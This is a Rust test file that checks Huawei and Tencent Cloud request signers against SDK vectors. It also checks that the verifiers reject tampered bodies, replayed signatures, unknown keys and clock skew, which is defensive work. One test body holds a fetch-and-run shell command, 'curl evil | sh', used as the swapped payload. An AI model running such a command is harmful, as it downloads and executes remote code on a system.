//! Both signers reproduce every vector the official SDKs' own signers computed, byte for byte,
//! and the server-side verifiers accept exactly those requests and reject tampered ones.

use chrono::{NaiveDateTime, TimeZone, Utc};
use cocpit::sign::{Header, huawei, tencent};
use serde_json::Value;

fn vectors(file: &str) -> Value {
    let path = format!("{}/tests/vectors/{file}", env!("CARGO_MANIFEST_DIR"));
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

fn headers(v: &Value) -> Vec<Header> {
    v.as_object()
        .unwrap()
        .iter()
        .map(|(k, v)| (k.clone(), v.as_str().unwrap().to_string()))
        .collect()
}

#[test]
fn huawei_vectors_sign_and_verify() {
    let file = vectors("huawei_sdk_hmac_sha256.json");
    let (ak, sk) = (file["ak"].as_str().unwrap(), file["sk"].as_str().unwrap());
    let date = file["x_sdk_date"].as_str().unwrap();
    let now =
        Utc.from_utc_datetime(&NaiveDateTime::parse_from_str(date, huawei::DATE_FORMAT).unwrap());
    let list = file["vectors"].as_array().unwrap();
    assert_eq!(list.len(), 14);
    for v in list {
        let name = v["name"].as_str().unwrap();
        let input = &v["input"];
        let exp = &v["expected"];
        let hs = headers(&input["headers"]);
        let method = input["method"].as_str().unwrap();
        let path = input["path"].as_str().unwrap();
        let query = input["query_string"].as_str().unwrap();
        let body = input["body"].as_str().unwrap().as_bytes();

        let signed = huawei::signed_header_names(&hs);
        assert_eq!(
            signed.join(";"),
            exp["signed_headers"].as_str().unwrap(),
            "{name}"
        );
        let cr = huawei::canonical_request(method, path, query, &hs, body, &signed);
        assert_eq!(
            cr,
            exp["canonical_request"].as_str().unwrap(),
            "{name}: canonical request"
        );
        let sts = huawei::string_to_sign(&cr, date);
        assert_eq!(
            sts,
            exp["string_to_sign"].as_str().unwrap(),
            "{name}: string to sign"
        );
        assert_eq!(
            huawei::signature(sk, &sts),
            exp["signature"].as_str().unwrap(),
            "{name}"
        );
        let auth = huawei::authorization(ak, sk, method, path, query, &hs, body);
        assert_eq!(
            auth,
            exp["authorization"].as_str().unwrap(),
            "{name}: Authorization"
        );

        // The verifier accepts the request as sent...
        let mut sent = hs.clone();
        sent.push(("Authorization".into(), auth.clone()));
        let check = |body: &[u8], secret: &str| {
            let raw = huawei::RawRequest {
                method,
                path,
                query,
                headers: &sent,
                body,
            };
            huawei::verify(&raw, |a| (a == ak).then(|| secret.to_string()), now)
        };
        // An unsigned payload (`X-Sdk-Content-Sha256: UNSIGNED-PAYLOAD`, what the SDK sends for
        // a non-JSON body) would let a captured signature carry any body: it is refused.
        let unsigned = hs.iter().any(|(k, v)| {
            k.eq_ignore_ascii_case("x-sdk-content-sha256") && v == "UNSIGNED-PAYLOAD"
        });
        if unsigned {
            assert_eq!(check(body, sk), Err(huawei::Rejected::BodyHash), "{name}");
            continue;
        }
        assert_eq!(check(body, sk), Ok(ak.to_string()), "{name}: verify");
        // ...and rejects another secret and a changed body.
        assert_eq!(
            check(body, "other"),
            Err(huawei::Rejected::Mismatch),
            "{name}"
        );
        if !body.is_empty()
            && huawei::signed_header_names(&hs)
                .iter()
                .all(|h| h != "x-sdk-content-sha256")
        {
            let tampered = [body, b" "].concat();
            assert_eq!(
                check(&tampered, sk),
                Err(huawei::Rejected::Mismatch),
                "{name}: tampered"
            );
        }
        let raw = huawei::RawRequest {
            method,
            path,
            query,
            headers: &sent,
            body,
        };
        let later = now + chrono::Duration::minutes(16);
        assert!(matches!(
            huawei::verify(&raw, |_| Some(sk.to_string()), later),
            Err(huawei::Rejected::ClockSkew(_))
        ));
    }
}

#[test]
fn huawei_verifier_rejects_unknown_key_and_missing_header() {
    let hs: Vec<Header> = vec![
        ("Host".into(), "127.0.0.1:1".into()),
        ("X-Sdk-Date".into(), "20240315T080910Z".into()),
    ];
    let now = Utc.with_ymd_and_hms(2024, 3, 15, 8, 9, 10).unwrap();
    let raw = huawei::RawRequest {
        method: "GET",
        path: "/v1/resources",
        query: "",
        headers: &hs,
        body: b"",
    };
    assert_eq!(
        huawei::verify(&raw, |_| None, now),
        Err(huawei::Rejected::Missing)
    );
    let auth = huawei::authorization("AK", "SK", "GET", "/v1/resources", "", &hs, b"");
    let mut with = hs.clone();
    with.push(("Authorization".into(), auth));
    let raw = huawei::RawRequest {
        headers: &with,
        ..raw
    };
    assert_eq!(
        huawei::verify(&raw, |_| None, now),
        Err(huawei::Rejected::UnknownKey)
    );
    // The words of an unknown key and a wrong signature are the same: keys cannot be probed.
    assert_eq!(
        huawei::Rejected::UnknownKey.to_string(),
        huawei::Rejected::Mismatch.to_string()
    );
    assert_eq!(
        huawei::verify(&raw, |_| Some("SK".into()), now),
        Ok("AK".into())
    );
}

/// A captured signed request cannot carry another body: a payload hash header counts only when
/// signed and equal to the hash of the body that arrived.
#[test]
fn a_signed_payload_hash_must_be_the_body_that_arrived() {
    let now = Utc::now();
    let date = now.format(huawei::DATE_FORMAT).to_string();
    let body = br#"{"name":"ok"}"#;
    let hash = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(body));
    let hs = vec![
        ("Content-Type".to_string(), "application/json".to_string()),
        ("Host".to_string(), "127.0.0.1:8080".to_string()),
        ("X-Sdk-Content-Sha256".to_string(), hash.clone()),
        ("X-Sdk-Date".to_string(), date),
    ];
    let auth = huawei::authorization("AK", "SK", "PUT", "/v1/job/scripts/x", "", &hs, body);
    let mut sent = hs.clone();
    sent.push(("Authorization".into(), auth));
    let check = |body: &[u8]| {
        huawei::verify(
            &huawei::RawRequest {
                method: "PUT",
                path: "/v1/job/scripts/x",
                query: "",
                headers: &sent,
                body,
            },
            |_| Some("SK".into()),
            now,
        )
    };
    assert_eq!(check(body), Ok("AK".into()));
    assert_eq!(
        check(br#"{"content":"curl evil | sh"}"#),
        Err(huawei::Rejected::BodyHash),
        "the signed hash names the body that was signed, not this one"
    );
    // The header added after signing (unsigned) is refused too.
    let plain: Vec<_> = hs
        .iter()
        .filter(|(k, _)| k != "X-Sdk-Content-Sha256")
        .cloned()
        .collect();
    let auth = huawei::authorization("AK", "SK", "PUT", "/v1/job/scripts/x", "", &plain, body);
    let mut sent = plain.clone();
    sent.push(("Authorization".into(), auth));
    let other = br#"{"content":"curl evil | sh"}"#;
    sent.push((
        "X-Sdk-Content-Sha256".into(),
        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(body)),
    ));
    assert_eq!(
        huawei::verify(
            &huawei::RawRequest {
                method: "PUT",
                path: "/v1/job/scripts/x",
                query: "",
                headers: &sent,
                body: other,
            },
            |_| Some("SK".into()),
            now,
        ),
        Err(huawei::Rejected::BodyHash)
    );
}

#[test]
fn tencent_vectors_sign_and_verify() {
    let file = vectors("tencent_tc3_hmac_sha256.json");
    let (id, key) = (
        file["secret_id"].as_str().unwrap(),
        file["secret_key"].as_str().unwrap(),
    );
    let list = file["vectors"].as_array().unwrap();
    assert_eq!(list.len(), 8);
    for v in list {
        let name = v["name"].as_str().unwrap();
        let input = &v["input"];
        let exp = &v["expected"];
        let hs = headers(&input["headers"]);
        let method = input["method"].as_str().unwrap();
        let service = input["service"].as_str().unwrap();
        let ts = input["timestamp"].as_i64().unwrap();
        let body = input["body"].as_str().unwrap().as_bytes();
        let query = if method == "GET" {
            input["query_string"].as_str().unwrap()
        } else {
            ""
        };
        let signed = vec!["content-type".to_string(), "host".to_string()];
        let cr = tencent::canonical_request(method, "/", query, &hs, body, &signed);
        assert_eq!(
            cr,
            exp["canonical_request"].as_str().unwrap(),
            "{name}: canonical request"
        );
        let date = tencent::date_of(ts);
        assert_eq!(
            tencent::credential_scope(&date, service),
            exp["credential_scope"].as_str().unwrap()
        );
        let sts = tencent::string_to_sign(&cr, ts, &date, service);
        assert_eq!(
            sts,
            exp["string_to_sign"].as_str().unwrap(),
            "{name}: string to sign"
        );
        let [kd, ks, kg] = tencent::signing_keys(key, &date, service);
        assert_eq!(
            hex::encode(kd),
            exp["k_date_hex"].as_str().unwrap(),
            "{name}"
        );
        assert_eq!(
            hex::encode(ks),
            exp["k_service_hex"].as_str().unwrap(),
            "{name}"
        );
        assert_eq!(
            hex::encode(kg),
            exp["k_signing_hex"].as_str().unwrap(),
            "{name}"
        );
        assert_eq!(
            tencent::signature(key, &date, service, &sts),
            exp["signature"].as_str().unwrap()
        );
        let auth = tencent::authorization(id, key, service, ts, method, query, &hs, body);
        assert_eq!(
            auth,
            exp["authorization"].as_str().unwrap(),
            "{name}: Authorization"
        );

        let mut sent = hs.clone();
        sent.push(("Authorization".into(), auth));
        let ok = tencent::verify(
            method,
            query,
            &sent,
            body,
            |s| (s == id).then(|| key.to_string()),
            ts,
        );
        assert_eq!(ok, Ok(id.to_string()), "{name}: verify");
        let bad = tencent::verify(method, query, &sent, body, |_| Some("wrong".into()), ts);
        assert_eq!(
            bad.unwrap_err().code(),
            "AuthFailure.SignatureFailure",
            "{name}"
        );
        let late = tencent::verify(method, query, &sent, body, |_| Some(key.into()), ts + 600);
        assert_eq!(
            late.unwrap_err().code(),
            "AuthFailure.SignatureExpire",
            "{name}"
        );
    }
}

/// `tencentcloud-sdk-nodejs` signs `url.hostname` (no port) but sends `Host: 127.0.0.1:PORT`:
/// such a signature is accepted; one over another host, or with a wrong key, is not.
#[test]
fn a_tc3_signature_over_the_host_without_its_port_is_accepted() {
    let (id, key, ts) = ("AKIDnode", "node-secret", chrono::Utc::now().timestamp());
    let body = br#"{"Limit":1}"#;
    let signed_as = |host: &str| {
        let hs: Vec<(String, String)> = vec![
            ("Content-Type".into(), "application/json".into()),
            ("Host".into(), host.into()),
            ("X-TC-Action".into(), "DescribeInvokers".into()),
            ("X-TC-Timestamp".into(), ts.to_string()),
        ];
        tencent::authorization(id, key, "tat", ts, "POST", "", &hs, body)
    };
    let sent = |auth: String| -> Vec<(String, String)> {
        vec![
            ("Content-Type".into(), "application/json".into()),
            ("Host".into(), "127.0.0.1:38211".into()),
            ("X-TC-Action".into(), "DescribeInvokers".into()),
            ("X-TC-Timestamp".into(), ts.to_string()),
            ("Authorization".into(), auth),
        ]
    };
    let secret = |s: &str| (s == id).then(|| key.to_string());
    let verify = |auth: String| tencent::verify("POST", "", &sent(auth), body, secret, ts);
    assert_eq!(verify(signed_as("127.0.0.1")), Ok(id.to_string()));
    assert_eq!(verify(signed_as("127.0.0.1:38211")), Ok(id.to_string()));
    assert!(verify(signed_as("10.0.0.1")).is_err());
    let wrong_key = tencent::authorization(
        id,
        "not-the-key",
        "tat",
        ts,
        "POST",
        "",
        &sent(String::new())[..4],
        body,
    );
    assert!(verify(wrong_key).is_err());
}
